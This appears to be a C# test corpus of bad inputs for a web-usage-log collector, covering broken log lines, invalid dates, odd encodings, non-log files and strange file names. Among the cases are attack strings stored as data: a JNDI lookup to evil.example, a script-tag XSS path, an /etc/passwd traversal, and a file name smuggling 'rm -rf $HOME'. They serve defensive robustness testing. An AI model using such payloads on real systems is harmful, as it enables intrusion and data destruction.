using System.Text;

namespace Carmen.Tests.Collector.BadInput;

/// <summary>What can be wrong with usage logs, and with the names of files.</summary>
internal static partial class Corpus
{
    private const string Agent = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
    private const string W3CHead = "#Version: 1.0\n#Fields: date time c-ip cs-method cs-uri-stem sc-status\n";
    private const string W3CLine = "2026-03-29 06:05:27 192.0.2.7 GET /waste 200\n";

    private static BadClass[] LogClasses =>
        [
            new(
                "lines of logs that are broken",
                "portal",
                Logged(
                    "no closing quote of the request",
                    "192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1 200 5",
                    0,
                    ("malformed", 1)
                ),
                Logged(
                    "no closing quote of the agent",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"{Agent}",
                    1,
                    ("unclosed-quote", 1)
                ),
                Logged(
                    "quotes within the request",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a\"b\" HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ),
                Logged("no request", "192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"-\" 408 0 \"-\" \"-\"", 0, ("not-a-page-view", 1)),
                Logged(
                    "bytes of TLS as the request",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"\\x16\\x03\\x01\" 400 0 \"-\" \"{Agent}\"",
                    0,
                    ("not-a-page-view", 1)
                ),
                Logged("no address", "- - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5", 0, ("malformed", 1)),
                Logged("no time", "192.0.2.7 - - \"GET /a HTTP/1.1\" 200 5", 0, ("malformed", 1)),
                Logged(
                    "a status that is none",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" fine 5 \"-\" \"{Agent}\"",
                    0,
                    ("malformed", 1)
                ),
                Logged(
                    "a status of four digits",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 2000 5 \"-\" \"{Agent}\"",
                    0,
                    ("malformed", 1)
                ),
                Logged("cut within the time", "192.0.2.7 - - [29/Mar/2026:14:0", 0, ("malformed", 1)),
                Logged(
                    "two in one line",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"{Agent}\"192.0.2.8 - - [29/Mar/2026:14:05:31 +0200] \"GET /b HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ),
                Logged(
                    "a line of the operating system",
                    "Mar 29 14:05:30 web1 kernel: Out of memory: Killed process 4711",
                    0,
                    ("malformed", 1)
                ),
                Logged("a thousand quotes", new string('"', 1000), 0, ("malformed", 1)),
                Logged("a thousand brackets", new string('[', 1000), 0, ("malformed", 1))
            ),
            new(
                "times of logs that are none",
                "portal",
                Dated("31/Feb/2026:14:05:30 +0200", 0, ("date", 1)),
                Dated("29/Feb/2026:14:05:30 +0200", 0, ("date", 1)),
                Dated("29/Mar/2026:24:05:30 +0200", 0, ("date", 1)),
                Dated("29/Mar/2026:14:61:30 +0200", 0, ("date", 1)),
                Dated("29/Mär/2026:14:05:30 +0200", 0, ("date", 1)),
                Dated("29/Mar/26:14:05:30 +0200", 0, ("date", 1)),
                Dated("29/Mar/0000:14:05:30 +0200", 0, ("date", 1)),
                Dated("29/Mar/9999:14:05:30 +0200", 0, ("date", 1)),
                Dated("31/Dec/9998:23:59:59 -0200", 0, ("date", 1)),
                Dated("29/Mar/2026:14:05:30 +9900", 0, ("date", 1)),
                Dated("29/Mar/2026:14:05:60 +0200", 1),
                Dated("29/Mar/2026:14:05:30", 1),
                Dated("2026-03-29T14:05:30+02:00", 1),
                Dated("29/Mar/2026:14:05:30.123 +0200", 1),
                Dated("1774785930", 1),
                Dated("Mar 29 14:05:30", 0, ("date", 1)),
                Dated("", 0, ("date", 1))
            ),
            new(
                "what attackers leave in logs",
                "portal",
                new(
                    "a line break in the agent",
                    Lines(0, 3) + "192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"evil\nadmin\"\n",
                    Read(5, 4, ("malformed", 1), ("unclosed-quote", 1))
                ),
                Logged(
                    "ESC in the agent",
                    "192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"\u001B[2J\u001B]0;x\u0007\"",
                    1
                ),
                Logged(
                    "a directory lookup",
                    "192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"${jndi:ldap://evil.example/a}\"",
                    1
                ),
                Logged(
                    "a script in the path",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /<script>alert(1)</script> HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ),
                Logged(
                    "a path that leads elsewhere",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /../../etc/passwd HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ),
                Logged(
                    "percent signs that are none",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /%zz%%%2 HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ),
                Logged(
                    "an e-mail address in the path",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /users/anna.rossi@example.org HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ) with
                {
                    Hides = "anna.rossi",
                },
                Logged(
                    "an e-mail address as the user",
                    $"192.0.2.7 - anna.rossi@example.org [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ) with
                {
                    Hides = "anna.rossi",
                },
                Logged(
                    "an e-mail address as the method",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"anna.rossi@example.org /a HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    0,
                    ("not-a-page-view", 1)
                ) with
                {
                    Hides = "anna.rossi",
                },
                Logged(
                    "a path of 64 KiB",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /{new string('x', 1 << 16)} HTTP/1.1\" 200 5 \"-\" \"{Agent}\"",
                    1
                ),
                Logged("NULs before the line", new string('\0', 300) + WebLog.Line(3).TrimEnd(), 1),
                Logged("a line of 3 MiB", new string('x', 3 << 20), 0, ("malformed", 1))
            ),
            new(
                "logs that are unusual",
                "portal",
                Logged("IPv6", $"2001:db8::1 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"{Agent}\"", 1) with
                {
                    Hides = "2001:db8::1",
                },
                Logged("IPv6 of a link", $"fe80::1%eth0 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\" \"{Agent}\"", 1),
                Logged(
                    "an agent alone on the next line",
                    $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5 \"-\"\n \"{Agent}\"",
                    1
                ),
                Logged("common among combined", "192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /a HTTP/1.1\" 200 5", 1),
                Logged("a blank line", "", 0) with
                {
                    Expected = Read(3, 3),
                },
                Logged("a heading", "#Software: x", 0) with
                {
                    Expected = Read(3, 3),
                },
                Logged("JSON among combined", "{\"time\": \"2026-03-29T14:05:30Z\"}", 0, ("malformed", 1)),
                new("CR LF", Lines(0, 3).ReplaceLineEndings("\r\n"), Read(3, 3)),
                new("UTF-16 with a mark", Encoding.Unicode.GetBytes("\uFEFF" + Lines(0, 3)), Read(3, 3)),
                new("UTF-16 without a mark", Encoding.Unicode.GetBytes(Lines(0, 3)), Read(3, 3)),
                new("UTF-8 with a mark", "\uFEFF" + Lines(0, 3), Read(3, 3)),
                new(
                    "bytes of Big5 in a path",
                    Encoding.Latin1.GetBytes(
                        Lines(0, 3)
                            + $"192.0.2.7 - - [29/Mar/2026:14:05:30 +0200] \"GET /\u00A4\u00A4\u00A4\u00E5 HTTP/1.1\" 200 5 \"-\" \"{Agent}\"\n"
                    ),
                    Read(4, 4)
                ),
                new("the same line twice", WebLog.Line(1) + WebLog.Line(1), Read(2, 2)),
                new("a rotation that repeats lines of another file", Lines(50, 150), Read(100, 50) with { Duplicates = 50 })
                {
                    Before = Lines(0, 100),
                },
                new(
                    "headings that change on the way",
                    W3CHead
                        + W3CLine
                        + "#Fields: time date cs-uri-stem cs-method sc-status c-ip\n06:05:28 2026-03-29 /waste GET 200 192.0.2.8\n",
                    Read(2, 2)
                ),
                new(
                    "headings that lose the address",
                    W3CHead + W3CLine + "#Fields: date time cs-method cs-uri-stem sc-status\n2026-03-29 06:05:28 GET /waste 200\n",
                    Read(2, 1, ("malformed", 1))
                ),
                new("headings without rows", W3CHead, Refused("#Fields")),
                new("rows without headings", W3CLine, Refused("found"))
            ),
            new(
                "files in place of logs",
                "portal",
                new(
                    "an Apache error log",
                    "[Fri Sep 09 10:42:29.902022 2026] [core:error] [pid 35708] [client 192.0.2.7] File does not exist\n",
                    Refused("Apache error log")
                )
                {
                    Hides = "192.0.2.7",
                },
                new(
                    "an nginx error log",
                    "2026/01/01 12:00:00 [error] 123#123: *1 open() failed, client: 192.0.2.7\n",
                    Refused("nginx error log")
                )
                {
                    Hides = "192.0.2.7",
                },
                new("dates without a year", "Sep 25 06:05:27 192.0.2.7 GET /waste 200\n", Refused("without a year")),
                new("times without a date", "06:05:27 192.0.2.7 GET /waste 200\n", Refused("no date")),
                new(
                    "stack traces",
                    "java.lang.NullPointerException: null\n\tat org.example.Main.run(Main.java:3)\n",
                    Refused("stack traces")
                ),
                new("counts by day", "label,nb_uniq_visitors,nb_visits\n2026-01-01,3,4\n", Refused("counts by day")),
                new("a web page", "<!DOCTYPE html>\n<html><body>Log in</body></html>\n", Refused("no format for visits")),
                new("a PDF document", "%PDF-1.7\n1 0 obj\n", Refused("a PDF document")),
                new("a table", Requests(), Refused("no format for visits")),
                new("one line of 3 MiB", new string('x', 3 << 20), Refused("no format for visits")),
                new("NULs", new byte[1 << 17], Refused("no format for visits"))
            ),
        ];

    private static BadClass[] NameClasses =>
        [
            new(
                "names of files",
                "crm",
                Named("255 bytes", new string('n', 255)),
                Named("a line break", "a\nb.csv"),
                Named("a dash in front", "-rf.csv"),
                Named("dots within", "a..b...csv"),
                Named("a command", "a;rm -rf $HOME;`id`.csv"),
                Named("quotes", "a'b\"c.csv"),
                Named("blanks", " a b .csv"),
                Named("markup", "<b>a&b.csv"),
                Named("a backslash", "a\\b.csv"),
                Named("a colon", "C:a.csv"),
                Named("stars", "a*?[b].csv"),
                Named("ESC", "a\u001B[31mb.csv"),
                Named("emoji", "🗑️.csv"),
                Named("decomposed letters", "società.csv".Normalize(NormalizationForm.FormD)),
                Named("right to left", "a\u202Evsc.exe"),
                Named("a name of a device", "NUL"),
                Named("an e-mail address", "anna@example.org.csv"),
                new("a refused one with a line break", "%PDF-1.7\n", Refused("a PDF")) { FileName = "a\nb.csv" }
            ),
        ];

    /// <summary>Three good lines and this one.</summary>
    private static BadFile Logged(string name, string line, int accepted, params (string Reason, long Count)[] reasons) =>
        new(name, Lines(0, 3) + line + "\n", Read(4, 3 + accepted, reasons));

    private static BadFile Dated(string time, int accepted, params (string Reason, long Count)[] reasons) =>
        Logged(time, $"192.0.2.7 - - [{time}] \"GET /a HTTP/1.1\" 200 5 \"-\" \"{Agent}\"", accepted, reasons);

    private static BadFile Named(string name, string fileName) => new(name, Requests(), Read(2, 2)) { FileName = fileName };
}
